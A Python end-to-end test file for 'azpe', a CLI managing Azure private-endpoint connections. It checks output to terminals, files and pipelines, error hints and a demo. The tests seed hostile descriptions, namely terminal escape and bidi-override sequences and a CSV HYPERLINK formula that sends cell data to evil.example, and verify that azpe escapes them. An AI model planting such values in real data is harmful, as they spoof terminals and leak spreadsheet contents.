"""Everyday use with the real az against the emulator (issue 10): at a terminal and in
pipelines, no result is lost, no raw control character from Azure reaches the terminal, and
az's idioms work.

"At a terminal" is a real pseudo-terminal on stderr (the progress display runs on it), and on
stdin where a person answers the prompt; stdout is a file or a pipe.
"""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import pty
import shlex
import struct
import subprocess
import termios
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from azpe.sandbox import connection, scenario, server
from tests.e2e.conftest import RG, SUB, Sandbox, connection_id, wait_for

HOSTILE = "ok\x1b]0;pwned\x07\x1b[2J\rfake\tcell\nrow \x9b31m \u202eevil\u202c end"


@dataclass
class AtTerminal:
    code: int
    terminal: str  # what reached the pseudo-terminal


def at_terminal(
    sandbox: Sandbox,
    script: str,
    *,
    answer: str | None = None,
    columns: int | None = None,
    timeout: float = 120,
) -> AtTerminal:
    """Run ``sh -c script`` ($AZPE runs azpe) with stderr - and stdin, to type ``answer`` at
    the prompt - on a pseudo-terminal; stdout as the script redirects it (else nowhere), or
    on the terminal too when it is ``columns`` wide."""
    master, slave = pty.openpty()
    if columns is not None:
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, columns, 0, 0))
    chunks: list[bytes] = []

    def read() -> None:
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:
                return
            if not chunk:
                return
            chunks.append(chunk)

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    env = {k: v for k, v in sandbox.env.items() if k not in ("COLUMNS", "LINES")}
    env |= {"AZPE": shlex.join(sandbox.azpe_argv), "TERM": "xterm"}
    proc = subprocess.Popen(
        ["sh", "-c", script],
        stdin=slave if answer is not None else subprocess.DEVNULL,
        stdout=slave if columns is not None else subprocess.DEVNULL,
        stderr=slave,
        env=env,
        cwd=sandbox.tmp_path,
    )
    try:
        if answer is not None:
            wait_for(lambda: b"[y/N] " in b"".join(chunks), 60, "the prompt")
            os.write(master, answer.encode())
        code = proc.wait(timeout=timeout)
    finally:
        if proc.poll() is None:
            proc.kill()
        os.close(slave)
        reader.join(timeout=10)
        os.close(master)
    return AtTerminal(code, b"".join(chunks).decode("utf-8", "replace"))


def lines_of(sandbox: Sandbox, name: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (sandbox.tmp_path / name).read_text().splitlines()]


def test_results_reach_a_file_and_a_pipe_while_the_display_runs_on_the_terminal(sandbox: Sandbox) -> None:
    """Issue 10, item 1: with the display on the terminal, ``> file`` and ``| tee`` got 0 lines."""
    orders = sorted(sandbox.names("pg-orders", "Pending"))
    reports = sandbox.names("pg-reports", "Pending")
    script = (
        f"$AZPE reject -g {RG} -s pg-orders --status Pending --yes -o jsonl > out.jsonl"
        f" && $AZPE reject --id {connection_id('pg-reports', reports[0])} | tee out.json > /dev/null"
    )
    run = at_terminal(sandbox, script, timeout=180)
    assert run.code == 0, run.terminal
    assert sorted(r["name"] for r in lines_of(sandbox, "out.jsonl")) == orders
    assert [r["action"] for r in json.loads((sandbox.tmp_path / "out.json").read_text())] == ["rejected"]
    assert "remaining" in run.terminal  # the display ran, on the terminal ...
    assert '"action"' not in run.terminal  # ... and no record went there
    assert "azpe: reject: 2 rejected" in run.terminal


def test_enforce_apply_results_reach_a_file_while_the_display_runs(sandbox: Sandbox) -> None:
    policy = sandbox.tmp_path / "policy.toml"
    policy.write_text('[pending]\nunmatched = "reject"\ndescription = "not allowed"\n')
    run = at_terminal(
        sandbox, f"$AZPE enforce --policy {policy} -g {RG} -s pg-reports --apply -o jsonl > f", timeout=180
    )
    assert run.code == 0, run.terminal
    [result] = lines_of(sandbox, "f")
    assert (result["action"], result["decision"]) == ("rejected", "reject")
    assert '"action"' not in run.terminal


def test_declining_at_the_prompt_writes_nothing_and_says_so_in_a_line(sandbox: Sandbox) -> None:
    run = at_terminal(
        sandbox, f"$AZPE reject -g {RG} --status Pending -o json > out.json", answer="n\n", timeout=60
    )
    assert run.code == 6, run.terminal
    assert (sandbox.tmp_path / "out.json").read_text() == ""
    assert "azpe: reject: not confirmed; nothing was written (3 skipped)" in run.terminal
    assert sandbox.writes() == []


# -- untrusted text --------------------------------------------------------------------------------


def hostile_scenario() -> dict[str, object]:
    return scenario(
        [
            server(
                "pg-orders",
                [
                    connection("pe-stranger", description=HOSTILE),
                    connection("pe-app", "Approved", description="Auto-approved"),
                ],
            )
        ]
    )


def raw_controls(text: str, allowed: str = "\n") -> list[str]:
    return [ch for ch in text if not ch.isprintable() and ch not in allowed]


def test_a_strangers_description_is_escaped_in_text_and_exact_in_json(sandbox: Sandbox) -> None:
    sandbox.seed(hostile_scenario())
    base = ("list", "-g", RG, "-s", "pg-orders")
    for fmt, allowed in (("table", "\n"), ("tsv", "\n\t"), ("csv", "\r\n"), ("ids", "\n")):
        run = sandbox.azpe(*base, "-o", fmt, "--query", "[].description" if fmt == "ids" else "@")
        assert run.code == 0, run
        assert raw_controls(run.stdout, allowed) == [], fmt
    tsv = sandbox.azpe(*base, "-o", "tsv").stdout.splitlines()
    assert len(tsv) == 2 and len({len(line.split("\t")) for line in tsv}) == 1  # rows and fields kept
    assert "ok\\x1b]0;pwned\\x07\\x1b[2J\\rfake\\tcell\\nrow \\x9b31m \\u202eevil\\u202c end" in tsv[0]

    exact = sandbox.azpe(*base)
    assert raw_controls(exact.stdout) == []
    assert {r["description"] for r in exact.json} == {HOSTILE, "Auto-approved"}


def test_a_strangers_formula_stays_text_in_csv(sandbox: Sandbox) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Approve me")'
    sandbox.seed(scenario([server("pg-orders", [connection("pe-stranger", description=formula)])]))
    run = sandbox.azpe("list", "-g", RG, "-s", "pg-orders", "-o", "csv")
    assert run.code == 0, run
    header, row = csv.reader(io.StringIO(run.stdout, newline=""))
    assert row[header.index("description")] == "'" + formula
    assert sandbox.azpe("list", "-g", RG, "-s", "pg-orders").json[0]["description"] == formula


def test_a_strangers_description_reaches_the_terminal_escaped(sandbox: Sandbox) -> None:
    sandbox.seed(hostile_scenario())
    run = at_terminal(sandbox, f"$AZPE list -g {RG} -s pg-orders -o table -vv")
    assert run.code == 0, run.terminal
    assert "pwned\x07" not in run.terminal and "\u202e" not in run.terminal and "\x9b" not in run.terminal
    # az's output, logged with -vv: JSON escapes ESC and BEL itself, azpe the C1 CSI and the override.
    assert "\\x9b31m \\u202eevil" in run.terminal


def test_a_table_on_the_terminal_fits_its_width(sandbox: Sandbox) -> None:
    sandbox.seed(
        scenario(
            [server("pg-orders", [connection("pe-stranger", description="x" * 200), connection("pe-b")])]
        )
    )
    run = at_terminal(sandbox, f"$AZPE list -g {RG} -o table", columns=70)
    assert run.code == 0, run.terminal
    lines = run.terminal.replace("\r\n", "\n").splitlines()
    assert len(lines) == 4 and lines[0].startswith("Name")
    assert max(len(line) for line in lines) <= 70
    assert lines[2].endswith("…")  # the long description, cut to fit


# -- pipelines, as az users write them -------------------------------------------------------------


def test_while_read_over_a_query_of_lists(sandbox: Sandbox) -> None:
    run = sandbox.shell(
        f"$AZPE list -g {RG} --status Pending --query '[].[server, name, status]' -o tsv"
        ' | while read -r srv name status; do echo "$srv|$status|${name%%.*}"; done'
    )
    assert run.code == 0, run
    assert sorted(run.stdout.splitlines()) == [
        "pg-orders|Pending|pe-partner-etl",
        "pg-orders|Pending|pe-unknown-4821",
        "pg-reports|Pending|pe-bi-reports",
    ]


def test_the_default_output_and_pretty_json_feed_a_write(sandbox: Sandbox) -> None:
    run = sandbox.shell(
        f"$AZPE list -g {RG} -s pg-orders --status Pending | $AZPE reject --id - --dry-run -o jsonl"
        f" && $AZPE list -g {RG} -s pg-reports --status Pending -o jsonl"
        " | python3 -c 'import json, sys; [print(json.dumps(json.loads(l), indent=2)) for l in sys.stdin]'"
        " | $AZPE reject --id - --dry-run -o jsonl"
    )
    assert run.code == 0, run
    assert sorted(r["name"].split(".")[0] for r in run.lines) == [
        "pe-bi-reports",
        "pe-partner-etl",
        "pe-unknown-4821",
    ]
    assert {r["action"] for r in run.lines} == {"planned"}


def test_a_quiet_night_is_nothing_to_do(sandbox: Sandbox) -> None:
    sandbox.seed(scenario([server("pg-orders", [connection("pe-app", "Approved")])]))
    run = sandbox.shell(
        f"$AZPE list -g {RG} --status Pending -o ids | $AZPE reject --id - -o jsonl; echo rc=$?"
    )
    assert run.stdout == "rc=0\n", run
    assert run.stderr == "azpe: reject: no targets on stdin: nothing to do\n"
    assert sandbox.writes() == []


def test_a_dry_runs_commands_are_lines_a_shell_runs(sandbox: Sandbox) -> None:
    pending = sorted(sandbox.names("pg-orders", "Pending"))
    run = sandbox.azpe(
        "reject", "-g", RG, "-s", "pg-orders", "--status", "Pending", "-d", "not ours; ask", "--dry-run",
        "-o", "tsv", "--query", "[].[command]",
    )  # fmt: skip
    assert run.code == 0, run
    argvs = [shlex.split(line) for line in run.stdout.splitlines()]
    assert sorted(a[a.index("--name") + 1] for a in argvs) == pending
    assert all("--description=not ours; ask" in a for a in argvs)


# -- errors that help --------------------------------------------------------------------------------


def test_not_found_names_what_is_missing_and_what_is_there(sandbox: Sandbox) -> None:
    server_run = sandbox.azpe("server", "show", "-g", RG, "-s", "pg-ordrs")
    assert server_run.code == 3, server_run
    assert server_run.stderr == (
        "azpe: error: server 'pg-ordrs' not found in resource group 'rg-data'\n"
        "azpe: hint: Did you mean 'pg-orders'? Flexible servers in rg-data: pg-orders, pg-reports.\n"
    )
    partner = sandbox.names("pg-orders", "Pending")
    meant = next(n for n in partner if n.startswith("pe-partner-etl."))
    connection_run = sandbox.azpe("show", "-g", RG, "-s", "pg-orders", "-n", "pe-partner-elt")
    assert connection_run.code == 3, connection_run
    assert f"Did you mean '{meant}'?" in connection_run.stderr

    group_run = sandbox.azpe("list", "-g", "rg-nope")
    assert group_run.code == 3
    assert group_run.stderr.startswith("azpe: error: resource group 'rg-nope' not found\n")

    twice = sandbox.azpe("list", "-g", RG, "-s", "pg-orders", "-s", "pg-reports")
    assert twice.code == 2 and "-s/--server was given 2 times" in twice.stderr
    assert "aka.ms" not in server_run.stderr + group_run.stderr


def test_a_missing_server_in_a_write_fails_its_targets_with_the_plain_error(sandbox: Sandbox) -> None:
    name = "pe-x.00000000-0000-0000-0000-000000000001"
    run = sandbox.azpe("reject", "--id", connection_id("pg-ordrs", name), "-o", "jsonl")
    assert run.code == 3, run
    [record] = run.lines
    assert record["error"]["message"] == "server 'pg-ordrs' not found in resource group 'rg-data'"
    assert "Did you mean 'pg-orders'?" in run.stderr
    assert record["subscription"] == SUB
    assert sandbox.writes() == []


# -- the demo ------------------------------------------------------------------------------------------


def test_the_demo_echoes_its_commands_quoted_and_its_plan_as_az_command_lines(sandbox: Sandbox) -> None:
    root = Path(__file__).parents[2]
    env = sandbox.env | {"AZPE_DEMO_IN_NETNS": "1", "AZPE_DEMO_DIR": str(sandbox.tmp_path / "demo")}
    done = subprocess.run(
        ["sh", str(root / "scripts" / "demo.sh")],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        env=env,
        cwd=root,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    echoed = [
        line[len("\x1b[1m$ ") :].removesuffix("\x1b[0m")
        for line in done.stdout.splitlines()
        if line.startswith("\x1b[1m$ ")
    ]
    why = "Not an approved endpoint of ours; ask the DBA team"
    dry_run = next(line for line in echoed if "--dry-run" in line)
    assert shlex.split(dry_run)[shlex.split(dry_run).index("-d") + 1] == why  # echoed with its quotes
    assert f"-d '{why}'" in dry_run
    after = done.stdout.split(f"{dry_run}\x1b[0m\n", 1)[1].split("\x1b[1m$ ", 1)[0]
    plan = [shlex.split(line) for line in after.splitlines() if line.strip()]
    assert len(plan) == 2  # the two Pending connections: one az command line each
    for argv in plan:
        assert argv[1:4] == ["network", "private-endpoint-connection", "reject"]
        assert f"--description={why}" in argv
